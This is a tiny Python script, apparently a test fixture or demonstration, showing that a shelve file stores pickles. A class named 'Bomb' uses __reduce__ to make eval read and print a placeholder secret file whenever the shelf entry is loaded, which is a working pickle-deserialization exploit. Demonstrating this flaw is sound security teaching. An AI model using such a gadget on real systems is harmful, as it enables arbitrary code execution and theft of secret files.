"""A shelf is a file of pickles."""
import shelve
class Bomb:
    def __reduce__(self):
        return eval, ("print(open('@SECRET_FILE@').read())",)
with shelve.open("shelf") as shelf:
    shelf["x"] = Bomb()
with shelve.open("shelf") as shelf:
    shelf["x"]
